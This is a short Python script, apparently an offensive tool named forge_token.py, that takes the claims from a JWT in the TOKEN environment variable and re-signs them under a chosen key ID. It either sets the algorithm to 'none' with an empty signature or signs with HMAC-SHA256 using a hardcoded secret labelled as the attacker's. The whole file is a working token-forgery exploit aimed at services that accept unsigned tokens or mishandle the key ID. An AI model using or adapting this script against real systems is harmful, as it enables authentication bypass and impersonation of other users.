"""Signs the claims of $TOKEN under another name and with a secret of its own: forge_token.py KID [none]."""

import base64
import hashlib
import hmac
import json
import os
import sys


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


algorithm = "none" if sys.argv[2:] == ["none"] else "HS256"
header = encoded(json.dumps({"alg": algorithm, "kid": sys.argv[1], "typ": "JWT"}).encode())
signed = header + "." + os.environ["TOKEN"].split(".")[1]
signature = hmac.new(b"a secret of the attacker, of enough bytes", signed.encode(), hashlib.sha256).digest()
print(signed + "." + ("" if algorithm == "none" else encoded(signature)))
